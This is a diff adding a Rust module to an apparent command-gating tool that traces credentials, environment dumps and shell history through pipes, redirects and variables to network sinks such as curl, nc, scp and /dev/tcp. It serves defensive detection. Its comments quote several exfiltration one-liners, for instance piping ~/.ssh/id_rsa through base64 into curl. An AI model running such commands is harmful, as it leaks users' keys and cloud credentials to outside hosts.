@@ -1,0 +1,422 @@
+//! Secrets flowing to a network sink in one command string: a credential file, the process
+//! environment or a shell history read by one command (or named by the sink itself) and
+//! carried through pipes, `< file` redirects and command substitutions to a program that
+//! sends it (`curl -d @~/.aws/credentials`, `env | nc h 80`, `cat ~/.ssh/id_rsa | base64 |
+//! curl -d @- …`, `scp .env host:`).
+//!
+//! A secret travels through every program except those whose output holds nothing of what
+//! they read (`wc`, `sha256sum`, `grep -c`: [`OPAQUE_OUTPUT`]). The engine weighs each flow
+//! against the policy's `exfiltration.allow`; without a grant every flow is denied, whatever
+//! the destination.
+
+use std::collections::HashMap;
+use std::ops::Range;
+
+use serde::Serialize;
+use toolgate_core::path_class::secrets::ENVIRONMENT_DUMPERS;
+use toolgate_core::path_class::{SECRET_SOURCES, SecretSource, secret_source, secret_source_below};
+
+use super::is_socket_path;
+use super::sinks::{may_send, sent};
+use crate::facts::destinations::collect;
+use crate::facts::paths::{aimed_class, tilde_home, working_directory};
+use crate::facts::writes::{COPIERS, content_targets};
+use crate::knowledge::exfiltration::{
+    DUMPER_LIST_OPTIONS, OPAQUE_OUTPUT, SEARCH_QUIET, TREE_READERS, WORDS_NOT_FILES,
+};
+use crate::knowledge::programs::table_name;
+use crate::model::{CommandAnalysis, CommandContext, Destination, SimpleCommand};
+use crate::syntax::words::uses_variable;
+
+/// One secret reaching a network sink.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct SecretFlow {
+    /// The kind of secret.
+    pub source: SecretSource,
+    /// Where the sink sends it: never empty ([`Destination::Unknown`] when the sink names
+    /// no destination that can be read, as a listening `nc` or code that connects to a
+    /// computed address).
+    pub destinations: Vec<Destination>,
+}
+
+/// A set of secret sources, one bit per row of [`SECRET_SOURCES`].
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+struct Secrets(u16);
+
+impl Secrets {
+    fn bit(source: SecretSource) -> u16 {
+        let at = SECRET_SOURCES
+            .iter()
+            .position(|i| i.source == source)
+            .unwrap_or(0);
+        1 << at
+    }
+
+    fn add(&mut self, source: SecretSource) {
+        self.0 |= Self::bit(source);
+    }
+
+    fn extend(&mut self, sources: impl IntoIterator<Item = SecretSource>) {
+        for s in sources {
+            self.add(s);
+        }
+    }
+
+    fn is_empty(self) -> bool {
+        self.0 == 0
+    }
+
+    fn iter(self) -> impl Iterator<Item = SecretSource> {
+        SECRET_SOURCES
+            .iter()
+            .enumerate()
+            .filter(move |(at, _)| self.0 & (1 << at) != 0)
+            .map(|(_, i)| i.source)
+    }
+}
+
+/// What the commands read so far carry: per command its secrets, and running counts per
+/// source so that what a range of commands carries is known in constant time.
+struct Carried {
+    sets: Vec<Secrets>,
+    counts: Vec<[u32; 16]>,
+}
+
+impl Carried {
+    fn push(&mut self, set: Secrets) {
+        let mut next = *self.counts.last().unwrap_or(&[0; 16]);
+        for (at, n) in next.iter_mut().enumerate() {
+            if set.0 & (1 << at) != 0 {
+                *n += 1;
+            }
+        }
+        self.sets.push(set);
+        self.counts.push(next);
+    }
+
+    /// What the commands of `range` (those already read) carry.
+    fn over(&self, range: &Option<Range<usize>>) -> Secrets {
+        let Some(r) = range else {
+            return Secrets::default();
+        };
+        let end = r.end.min(self.sets.len());
+        let start = r.start.min(end);
+        let (a, b) = (&self.counts[start], &self.counts[end]);
+        let mut out = Secrets::default();
+        for at in 0..16 {
+            if b[at] > a[at] {
+                out.0 |= 1 << at;
+            }
+        }
+        out
+    }
+}
+
+/// The state of one pass over the commands: what each carries, and the files written so far
+/// with secrets in them (`cp ~/.aws/credentials /tmp/c`, `env > /tmp/e`).
+struct Pass<'a> {
+    analysis: &'a CommandAnalysis,
+    cx: &'a CommandContext<'a>,
+    carried: Carried,
+    written: HashMap<String, Secrets>,
+    /// Variables `read` (or `mapfile`) set from a stdin that carries secrets.
+    read_variables: Vec<(String, Secrets)>,
+}
+
+/// Builtins that set variables from their stdin.
+const READERS_INTO_VARIABLES: &[&str] = &["read", "mapfile", "readarray"];
+
+/// Most variables set by `read` that one pass follows.
+const MAX_READ_VARIABLES: usize = 64;
+
+/// The secrets that reach a network sink in `analysis`, each with the sink's destinations.
+pub fn secret_flows(analysis: &CommandAnalysis, cx: &CommandContext) -> Vec<SecretFlow> {
+    // Most command strings send nothing: then nothing is read.
+    let sends = analysis
+        .commands
+        .iter()
+        .any(|c| may_send(c) || c.writes.iter().any(|w| is_socket_path(w)));
+    if !sends {
+        return Vec::new();
+    }
+    let mut pass = Pass {
+        analysis,
+        cx,
+        carried: Carried {
+            sets: Vec::with_capacity(analysis.commands.len()),
+            counts: vec![[0; 16]],
+        },
+        written: HashMap::new(),
+        read_variables: Vec::new(),
+    };
+    let mut out: Vec<SecretFlow> = Vec::new();
+    for (i, cmd) in analysis.commands.iter().enumerate() {
+        let dir = cmd
+            .cwd_changed
+            .then(|| working_directory(analysis, i))
+            .flatten();
+        let dir = dir.as_deref();
+        let mut here = pass.reads(i, dir);
+        let from_variables = pass.variables_used(cmd);
+        if !opaque(cmd) {
+            here.0 |= from_variables.0;
+            here.0 |= pass.carried.over(&cmd.stdin_from).0;
+            for r in &cmd.words_from {
+                here.0 |= pass.carried.over(&Some(r.clone())).0;
+            }
+        }
+        pass.carried.push(here);
+        pass.record_read_variables(i, dir);
+        if let Some(flow) = pass.sink(i, dir, from_variables) {
+            for source in flow.0.iter() {
+                let flow = SecretFlow {
+                    source,
+                    destinations: flow.1.clone(),
+                };
+                if !out.contains(&flow) {
+                    out.push(flow);
+                }
+            }
+        }
+        pass.record_writes(i, dir);
+    }
+    out
+}
+
+impl Pass<'_> {
+    /// The secret source `path` names, or the secrets a file written earlier holds.
+    fn secrets_of(&self, path: &str, dir: Option<&str>, tree: bool) -> Secrets {
+        let path = in_directory(path, dir);
+        let mut out = Secrets::default();
+        let cx = self.cx;
+        out.extend(aimed_class(
+            &path,
+            |p| secret_source(p, cx.cwd, cx.home),
+            |s| s.info().patterns,
+        ));
+        if tree {
+            out.extend(secret_source_below(&path, cx.cwd, cx.home));
+        }
+        if let Some(secrets) = self.written.get(&path) {
+            out.0 |= secrets.0;
+        }
+        out
+    }
+
+    /// What command `i` sends to the network, and where, when it is a sink that sends a
+    /// secret.
+    fn sink(
+        &self,
+        i: usize,
+        dir: Option<&str>,
+        from_variables: Secrets,
+    ) -> Option<(Secrets, Vec<Destination>)> {
+        let cmd = &self.analysis.commands[i];
+        let socket_output = cmd.writes.iter().any(|w| is_socket_path(w));
+        let sent = sent(cmd);
+        if sent.is_none() && !socket_output {
+            return None;
+        }
+        let mut secrets = Secrets::default();
+        let mut destinations = Vec::new();
+        if socket_output {
+            // `cat ~/.ssh/id_rsa > /dev/tcp/h/p`: its whole output goes to the socket.
+            secrets.0 |= self.carried.sets[i].0;
+            collect(cmd, &mut destinations);
+        }
+        if let Some(sent) = sent {
+            for f in &sent.files {
+                secrets.0 |= self.secrets_of(f, dir, false).0;
+            }
+            for t in &sent.trees {
+                secrets.0 |= self.secrets_of(t, dir, true).0;
+            }
+            if sent.stdin || (sent.words && cmd.args_from_input) {
+                secrets.0 |= self.carried.over(&cmd.stdin_from).0;
+                if let Some(f) = &cmd.stdin_file {
+                    secrets.0 |= self.secrets_of(f, dir, false).0;
+                }
+            }
+            if sent.words {
+                secrets.0 |= from_variables.0;
+            }
+            if sent.words || sent.stdin {
+                // Substituted words, and here-strings (`<<< "$(cat f)"`), are sent.
+                for r in &cmd.words_from {
+                    secrets.0 |= self.carried.over(&Some(r.clone())).0;
+                }
+            }
+            if let Some(network) = cmd.inline_network.as_ref().filter(|n| n.connects) {
+                secrets.extend(network.reads.iter().copied());
+            }
+            destinations.extend(sent.destinations);
+        }
+        if secrets.is_empty() {
+            return None;
+        }
+        if destinations.is_empty() {
+            destinations.push(Destination::Unknown {
+                program: table_name(&cmd.program),
+            });
+        }
+        Some((secrets, destinations))
+    }
+
+    /// The secrets command `i` reads: credential files among its operands (or trees above
+    /// them, for archivers and recursive copies), files written earlier with secrets, the
+    /// file its stdin comes from, the whole environment, the secrets its inline code reads.
+    fn reads(&self, i: usize, dir: Option<&str>) -> Secrets {
+        let cmd = &self.analysis.commands[i];
+        let mut out = Secrets::default();
+        if let Some(n) = &cmd.inline_network {
+            out.extend(n.reads.iter().copied());
+        }
+        if prints_environment(cmd) {
+            out.add(SecretSource::ProcessEnvironment);
+        }
+        let program = cmd.program_lower();
+        if program == "history" && cmd.args.iter().all(|a| a.parse::<u32>().is_ok()) {
+            out.add(SecretSource::ShellHistory);
+        }
+        if opaque(cmd) {
+            return out;
+        }
+        if let Some(f) = &cmd.stdin_file {
+            out.0 |= self.secrets_of(f, dir, false).0;
+        }
+        if !WORDS_NOT_FILES.contains(&program.as_str()) {
+            let trees = TREE_READERS.contains(&program.as_str());
+            for operand in &cmd.operands {
+                if operand.contains("://") {
+                    continue;
+                }
+                let path = operand.strip_prefix("if=").unwrap_or(operand);
+                out.0 |= self.secrets_of(path, dir, trees).0;
+            }
+        }
+        out
+    }
+
+    /// What the variables set by `read` that `cmd`'s words use carry.
+    fn variables_used(&self, cmd: &SimpleCommand) -> Secrets {
+        let mut out = Secrets::default();
+        for (name, secrets) in &self.read_variables {
+            let uses = cmd
+                .args
+                .iter()
+                .chain(cmd.env.iter().map(|(_, v)| v))
+                .any(|a| uses_variable(a, name));
+            if uses {
+                out.0 |= secrets.0;
+            }
+        }
+        out
+    }
+
+    /// `read LINE` (`mapfile ARR`) from a stdin that carries secrets: the variables carry
+    /// them (`while read l; do curl -d "$l" …; done < ~/.aws/credentials`).
+    fn record_read_variables(&mut self, i: usize, dir: Option<&str>) {
+        let cmd = &self.analysis.commands[i];
+        if !READERS_INTO_VARIABLES.contains(&cmd.program_lower().as_str()) {
+            return;
+        }
+        let mut secrets = self.carried.over(&cmd.stdin_from);
+        if let Some(f) = &cmd.stdin_file {
+            secrets.0 |= self.secrets_of(f, dir, false).0;
+        }
+        if secrets.is_empty() {
+            return;
+        }
+        // Without names, `read` sets REPLY and `mapfile` MAPFILE.
+        let default = if cmd.program_lower() == "read" {
+            "REPLY"
+        } else {
+            "MAPFILE"
+        };
+        let names: Vec<&str> = if cmd.operands.is_empty() {
+            vec![default]
+        } else {
+            cmd.operands.iter().map(String::as_str).collect()
+        };
+        for name in names {
+            if self.read_variables.len() < MAX_READ_VARIABLES {
+                self.read_variables.push((name.to_string(), secrets));
+            }
+        }
+    }
+
+    /// Files command `i` writes with secrets in them: its output when that carries secrets
+    /// (`env > /tmp/e`, `tar czf /tmp/k.tgz ~/.ssh`), the destination of a copy of a secret
+    /// (`cp ~/.aws/credentials /tmp/`).
+    fn record_writes(&mut self, i: usize, dir: Option<&str>) {
+        let cmd = &self.analysis.commands[i];
+        let targets = content_targets(cmd);
+        if targets.is_empty() {
+            return;
+        }
+        let mut secrets = self.carried.sets[i];
+        if COPIERS.contains(&cmd.program_lower().as_str())
+            && let Some((_, sources)) = cmd.operands.split_last()
+        {
+            for s in sources {
+                secrets.0 |= self.secrets_of(s, dir, true).0;
+            }
+        }
+        if secrets.is_empty() {
+            return;
+        }
+        for t in targets {
+            let path = in_directory(&t, dir);
+            self.written.entry(path).or_default().0 |= secrets.0;
+        }
+    }
+}
+
+fn in_directory(path: &str, dir: Option<&str>) -> String {
+    let path = tilde_home(path);
+    match dir {
+        Some(d) if !path.starts_with(['/', '~']) => format!("{d}/{path}"),
+        _ => path.into_owned(),
+    }
+}
+
+/// Whether `cmd`'s output holds nothing of what it reads.
+fn opaque(cmd: &SimpleCommand) -> bool {
+    let program = cmd.program_lower();
+    if OPAQUE_OUTPUT.contains(&program.as_str()) {
+        return true;
+    }
+    let base = table_name(&program).unwrap_or(&program).to_string();
+    let base = match base.as_str() {
+        "egrep" | "fgrep" => "grep",
+        other => other,
+    };
+    SEARCH_QUIET.iter().any(|(name, quiet)| {
+        *name == base
+            && cmd.args.iter().any(|a| {
+                quiet.contains(&a.as_str())
+                    || quiet.iter().any(|q| {
+                        q.len() == 2
+                            && a.starts_with('-')
+                            && !a.starts_with("--")
+                            && a[1..].contains(&q[1..])
+                    })
+            })
+    })
+}
+
+/// Whether `cmd` prints the whole environment (`env`, `printenv`, `export -p`, `set`).
+fn prints_environment(cmd: &SimpleCommand) -> bool {
+    let program = cmd.program_lower();
+    if !ENVIRONMENT_DUMPERS.contains(&program.as_str()) {
+        return false;
+    }
+    match program.as_str() {
+        "env" | "printenv" => cmd.operands.is_empty(),
+        "set" => cmd.args.is_empty(),
+        _ => cmd
+            .args
+            .iter()
+            .all(|a| DUMPER_LIST_OPTIONS.contains(&a.as_str())),
+    }
+}
